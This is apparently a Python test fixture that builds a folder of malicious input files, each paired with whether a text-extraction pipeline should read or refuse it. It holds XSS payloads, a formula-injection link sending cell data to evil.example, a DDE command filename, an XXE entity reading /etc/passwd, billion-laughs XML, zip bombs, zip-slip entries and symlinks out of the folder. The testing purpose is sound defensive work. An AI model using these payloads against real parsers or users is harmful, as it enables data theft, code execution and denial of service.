"""A folder of nasty files, made when a test needs them: each with what must become of it."""

import io
import os
import zipfile
from itertools import pairwise
from pathlib import Path

ATTACK = '<script>window.ran=1</script><img src=x onerror="window.ran=1"><svg/onload=window.ran=1>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
LINK = "javascript:window.ran=1"
HIDDEN = "\u202e\u2066\u200f\u200b\ufeff"
CONTROLS = "\x00\x07\x1b[31m"
PLANT = (
    "{name} opens its plant in Kaluga\n\nKaluga, 14 March 2019. {name} produced 1,200 buses in 2018.\n\n"
    "The industrial park «Vostok» in Kaluga has 30 residents.\n"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghij"))
    + "]>"
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MEGABYTE = 1_000_000
WORD_WITHOUT_END = "Автосборкапроизводство" * 14


def docx(document: bytes, **others: bytes) -> bytes:
    """A DOCX with this main part, and other entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        types = (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>'
        )
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
        links = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{kind}" Target="word/document.xml"/></Relationships>'
        )
        entries = {"[Content_Types].xml": types.encode(), "_rels/.rels": links.encode(), "word/document.xml": document}
        for name, data in (entries | others).items():
            file.writestr(name, data)
    return out.getvalue()


def body(text: str, head: str = '<?xml version="1.0"?>') -> bytes:
    """The main part of a DOCX with one paragraph."""
    inside = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"
    return f'{head}<w:document xmlns:w="{WORD}">{inside}</w:document>'.encode()


def read_files() -> dict[str, bytes]:
    """Files by name whose text is read, whatever stands in it."""
    attack = PLANT.format(name=f"Kama {ATTACK} Motors")
    return {
        "markup.txt": f"{ATTACK}\n\n{attack}".encode(),
        "formula.txt": (f"{FORMULA}\n\n" + PLANT.format(name="=1+1 Motors") + "@SUM(A1) +7 -5").encode(),
        "markdown.md": f"# {ATTACK}\n\n[plant]({LINK}) ![x]({LINK})\n\n{attack}".encode(),
        "page.html": f"<html><head><title>{ATTACK}</title><base href='{LINK}'></head><body><p onclick='{LINK}'>"
        f"{PLANT.format(name='Kama &lt;b&gt; Motors')}</p><a href='{LINK}'>x</a>{ATTACK}</body></html>".encode(),
        "word.md": f"# {WORD_WITHOUT_END}\n\n{PLANT.format(name=f'«{WORD_WITHOUT_END}»')}".encode(),
        "hidden.txt": (HIDDEN + PLANT.format(name=f"Kama{HIDDEN} Motors") * 9 + CONTROLS).encode(),
        "deep.html": b"<html><body><p>Kama Motors made 5 buses.</p>" + b"<div><b>" * 30_000 + b"lost",
        "external.docx": docx(body("Kama &x; Motors", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "climbing.docx": docx(body("Kama Motors made 5 buses."), **{"../../escaped.txt": b"x", "/escaped.txt": b"x"}),
        "page.docx": b"<html><body><p>A page that is called a document.</p></body></html>",
        "text.pdf": b"A text that is called a PDF. Kama Motors made 5 buses.",
        "word.txt": docx(body("A document that is called a text.")),
        "line.txt": b"Kama Motors made 5 buses. " * (20_000 // 26),
        "=cmd|' C calc'!A0.txt": PLANT.format(name="Kama Motors").encode(),
        "<img src=x onerror=window.ran=1>.txt": PLANT.format(name="Kama Motors").encode(),
        "a\\..\\..\\up.txt": b"A name that climbs elsewhere.",
        "new\nline\u202egpj.txt": b"A name of two lines.",
        "n" * 250 + ".txt": b"A long name.",
    }


def refused_files() -> dict[str, tuple[bytes, str]]:
    """Files by name that hold no text that can be read, and a word of the reason."""
    encrypted = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le")
    return {
        "empty.txt": (b"", "empty"),
        "zeros.txt": (bytes(4096), "empty"),
        "endless.txt": (b"a" * (10 * MEGABYTE), "longer than"),
        "huge.txt": ("Завод выпустил 5 машин. ".encode() * (20 * MEGABYTE // 42), "longer than"),
        "program.txt": (b"MZ\x90\x00\x03" + bytes(range(256)) * 64, "program"),
        "picture.pdf": (b"\x89PNG\r\n\x1a\n" + bytes(64), "picture"),
        "broken.pdf": (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj", "broken"),
        "bomb.docx": (docx(body(" " * (150 * MEGABYTE))), "unpacks to more"),
        "bombs.docx": (docx(b"x", **{f"word/{n}.xml": b" " * (30 * MEGABYTE) for n in range(5)}), "unpacks to more"),
        "laughs.docx": (docx(body("&j;", LAUGHS)), ""),
        "locked.docx": (encrypted, "password"),
        "archive.docx": (zipped({"a.txt": b"a"}), ""),
        "table.html": (b"PK\x03\x04" + bytes(200), ""),
        "feed.xml": (f"{LAUGHS}<rss>&j;</rss>".encode(), ""),
    }


def zipped(entries: dict[str, bytes]) -> bytes:
    """A zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return out.getvalue()


def write(folder: Path) -> Path:
    """The folder with all of them, and with links and pipes that lead elsewhere."""
    folder.mkdir()
    files = read_files() | {name: data for name, (data, _) in refused_files().items()}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    (folder / "folder.txt").mkdir()
    (folder.parent / "outside.txt").write_text("Secret Motors made 5 buses in 2018.")
    (folder / "link.txt").symlink_to(folder.parent / "outside.txt")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "up").symlink_to(folder.parent)
    os.mkfifo(folder / "pipe.txt")
    return folder
